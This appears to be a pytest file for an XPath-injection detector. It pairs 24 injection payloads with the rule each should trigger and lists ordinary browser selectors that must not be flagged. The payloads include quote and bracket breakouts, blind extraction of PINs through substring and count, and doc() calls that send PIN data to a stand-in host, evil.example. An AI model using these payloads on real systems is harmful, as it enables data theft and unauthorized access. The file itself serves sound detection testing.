"""Values that leave a predicate or measure a document are found; the paths of clicked elements and testers' selectors pass."""

from __future__ import annotations

import re

import pytest

from sallygate.controls.injection.judges import xpath
from sallygate.controls.injection.pipeline.evidence import Evidence

EDGE = "\x1e"
TRIGGERS = [re.compile(trigger, re.IGNORECASE | re.DOTALL) for trigger in xpath.JUDGE.triggers]

ATTACKS: list[tuple[str, str]] = [
    ("z' or name()='login' or 'z'='q", "quote-left"),
    ("z') and contains(../pin,'c", "quote-left"),
    ("z') and starts-with(../pin,'c", "quote-left"),
    ("' or //user[1]/pin or '", "quote-left"),
    ('" or not(contains(pin,"x")) or "', "quote-left"),
    ("' or ancestor::node() or '", "quote-left"),
    ("3 or position()=2", "position"),
    ("')] | //user/*[contains(*,'", "bracket-left"),
    ("z]|//*|z[", "bracket-left"),
    ("']/../*", "bracket-left"),
    ("nobody' or 1=1]/child::node() | a['", "bracket-left"),
    ("z' | //pin", "union"),
    ("count(/child::node())", "measures"),
    ("' and count(/*)=2 and 'b'='b", "measures"),
    ("' and count(/@*)=2 and 'b'='b", "measures"),
    ("substring(//user[2]/pin,1,1)='b'", "measures"),
    ("string-length(name(/*[1]))>2", "measures"),
    ("and string-length(account)=7", "measures"),
    ("codepoints-to-string(97)", "codepoints"),
    ("doc('http://evil.example/a')", "fetch"),
    ("doc(concat('http://evil.example/', //pin))", "fetch"),
    ("/child::node()", "root"),
    ("//text()", "path"),
    ("//user[name/text()='admin']", "path"),
]

HONEST = r"""
/html/body/div[2]/a[1]
/html[1]/body[1]/div[6]/div[1]/img[1]
//*[@id="main"]/div[3]
//*[@id='buy-now-button']
//body/section[1]/div[2]/div[1]/a[1]
//*[contains(@class,'a') or contains(@class,"b")]
//*[contains(concat(' ', @class, ' '), ' item ')]
//*[name()='svg']
//*[local-name()='path' and @d]
//div[normalize-space(.)='x' and position()=1]
//a[contains(text(),'Next')]/following-sibling::div[1]
//td[1]/ancestor::tr
(//div)[last()]
//*[@id='a']/../div
count(preceding-sibling::li)
std::name::x
id::||sku::||type::||alt_id::
Home | Shop [new] | Sale
[a] | [b]
document('x')
substring(0,1)
String(/x/)
name(first) / name(last)
the 'best' and not (yet) seen
the owners' and name(s) given
// comment
net::ERR_INVALID_CHUNKED_ENCODING
"""


def judged(text: str) -> Evidence | None:
    hits = [number for number, trigger in enumerate(TRIGGERS) if trigger.search(f"{EDGE}{text}{EDGE}")]
    return xpath.JUDGE.judge(text, hits) if hits else None


@pytest.mark.parametrize(("text", "rule"), ATTACKS)
def test_attack_is_found_by_its_rule(text: str, rule: str) -> None:
    found = judged(text)
    assert found is not None and found.family == "xpath"
    assert found.rule == rule and found.score >= 5
    assert 0 <= found.start < found.end <= len(text)


def test_number_of_attacks() -> None:
    assert len(ATTACKS) == 24
    assert {rule for _, rule in ATTACKS} == {idiom.rule for idiom in xpath.IDIOMS}


def test_honest_texts_pass() -> None:
    texts = HONEST.strip().splitlines()
    assert len(texts) == 27
    assert {text: found for text in texts if (found := judged(text)) is not None} == {}


@pytest.mark.parametrize("unit", ["count(/a", "' or a", "a/", "]|", "child::", "doc(concat(", "a*", "\x1e"])
def test_long_texts_of_beginnings_return(unit: str) -> None:
    xpath.JUDGE.judge((unit * 8192)[:8192], list(range(len(xpath.IDIOMS))))
